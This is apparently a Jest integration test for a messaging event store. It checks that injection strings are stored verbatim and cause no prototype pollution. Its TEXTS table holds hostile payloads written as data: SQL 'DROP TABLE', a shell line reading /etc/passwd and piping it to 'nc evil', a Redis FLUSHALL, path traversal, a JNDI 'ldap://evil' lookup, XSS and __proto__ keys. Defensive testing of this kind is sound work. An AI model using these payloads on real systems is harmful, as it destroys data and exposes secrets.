import { randomUUID } from 'node:crypto';
import { describe, expect, it } from '@jest/globals';
import type { JsonObject } from '@nova/proto/runtime';
import type { Rig } from './messaging.rig.spec.ts';

/** Texts that mean something to a database, a shell, a parser or a terminal on the way. */
const TEXTS: Readonly<Record<string, string>> = {
  'the end of a statement': "'); DROP TABLE outbox_events; --",
  'a condition that is always true': "' OR '1'='1",
  'dollar quotes and parameters': '$$ $1 $2 :name ? %s %1$s {0} $tag$ \\',
  'a literal of an array and a row': '{"a",NULL,"b\\"c"} (1,,"x") \\N \\.',
  'a command of a shell': '$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1 & > /dev/null',
  'a script of Redis': "redis.call('FLUSHALL') \r\n*1\r\n$8\r\nFLUSHALL\r\n",
  'the end of a JSON document': '"},"__proto__":{"admin":true},{"x":"\\u0000\\ud800\\"',
  'a query of a search engine': 'a & (b | !c) <-> "d" *:* {"match_all":{}} /(a+)+$/',
  'markup and a template':
    '<script>alert(1)</script><!-- ]]> \u0024{7*7} {{7*7}} <%= 7*7 %> #{7*7}',
  'a path to elsewhere': '../../../../etc/passwd ..\\..\\win.ini %2e%2e%2f file:///etc/passwd',
  'a line of a log and a header': 'ok\r\nlevel=error msg="forged"\nx-user-id: root\r\n\r\n',
  'a lookup': '\u0024{jndi:ldap://evil/x} \u0024{env:HOME} %(name)s',
  'control characters': [...Array(31).keys()].map((at) => String.fromCharCode(at + 1)).join(''),
  'colours of a terminal': '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b2J\u007f',
  'what turns or hides text': '\u202eabc\u2066\u200b\u00ad\ufeff\ufffd\u2028\u2029\u0085',
  'letters beyond 16 bits': '😀👩‍👩‍👧‍👦𝔘𝔫𝔦𝔠𝔬𝔡𝔢 e\u0301 é İ ß',
  'a name of a prototype': '__proto__',
  another: 'constructor',
  'and one of a method': 'toString',
  'a word that is a value elsewhere': 'null',
  'spaces at both ends': ' \t x \t ',
};

/** Keys that an object of JavaScript may take for its own. */
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

/** What is stored and shown as it was sent; part of messaging.int.spec.ts. */
export function describeVerbatim(rig: () => Rig): void {
  describe('a text that means something elsewhere', () => {
    it.each(Object.entries(TEXTS))('is text all the way, as %s', async (_, told) => {
      const ann = rig().user();
      const conversationId = randomUUID();
      const messageId = randomUUID();
      const metadata = Object.fromEntries([...KEYS, 'text'].map((key) => [key, told]));
      const payload = { message_id: messageId, sender_id: ann.id, content: told };
      const event = { eventType: 'message_created', aggregateId: conversationId };
      const { event: answered, consistencyToken } = await rig().events.publishEvent({
        ...event,
        payload,
        metadata,
      });
      expect(answered).toMatchObject({ payload, metadata });
      const read = await rig().events.getEvent({ eventId: answered?.eventId ?? '' });
      expect(read.event?.payload).toEqual(payload);
      expect(Object.entries(read.event?.metadata ?? {}).sort()).toEqual(
        Object.entries(metadata).sort(),
      );
      const name = { username: told, display_name: told, avatar_url: told };
      const minConsistencyToken = await rig().publish([
        ['user_created', ann.id, name],
        ['conversation_updated', conversationId, { editor_id: ann.id, name: told }],
      ]);
      const shown = await ann.rpc.getMessage({
        conversationId,
        messageId,
        minConsistencyToken: consistencyToken,
      });
      expect(shown.message?.content).toBe(told);
      const { conversation } = await ann.rpc.getConversation({
        conversationId,
        minConsistencyToken,
      });
      expect(conversation).toMatchObject({ name: told, lastMessage: { content: told } });
    });

    it('leaves the log and its tables as they are, and no object changed', async () => {
      const [row] = await rig().log.database.query<{ count: number }>(
        `SELECT count(*)::integer AS count FROM outbox_events WHERE event_type = 'message_created'`,
      );
      expect(row?.count).toBeGreaterThanOrEqual(Object.keys(TEXTS).length);
      const health = await (await fetch(`${rig().opsUrl}/health/cqrs`)).json();
      expect(health).toMatchObject({ consumers: [{ parkedAggregates: 0, retryingAggregates: 0 }] });
      expect(Object.keys(Object.prototype)).toEqual([]);
    });

    it('is a key like others, as the names of prototypes are', async () => {
      // As text of JSON, in which __proto__ is a key of its own.
      const data = JSON.parse(
        `{${KEYS.map((key) => `"${key}":{"polluted":"${key}"}`).join()}}`,
      ) as JsonObject;
      const payload = { user_id: randomUUID(), kind: 'k', data };
      const { event } = await rig().events.publishEvent({
        eventType: 'notification_created',
        aggregateId: randomUUID(),
        payload,
      });
      const read = await rig().events.getEvent({ eventId: event?.eventId ?? '' });
      const kept = read.event?.payload?.['data'] as JsonObject;
      expect(JSON.stringify(kept, Object.keys(kept).sort().concat('polluted'))).toBe(
        JSON.stringify(data, KEYS.toSorted().concat('polluted')),
      );
      expect(Object.hasOwn(kept, '__proto__')).toBe(true);
      expect('polluted' in {}).toBe(false);
    });
  });
}
